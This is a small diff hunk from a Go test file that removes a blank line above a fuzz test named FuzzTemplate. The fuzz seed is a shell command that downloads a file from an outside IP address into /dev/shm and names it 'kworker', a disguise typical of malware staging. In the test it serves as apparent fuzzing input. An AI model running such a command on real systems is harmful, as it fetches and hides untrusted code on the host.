@@ -268,7 +268,6 @@ func TestTitleScoreAndAccount(t *testing.T) {
 	}
 }
 
-
 func FuzzTemplate(f *testing.F) {
 	f.Add("curl http://203.0.113.9/t -o /dev/shm/kworker")
 	f.Fuzz(func(t *testing.T, command string) {
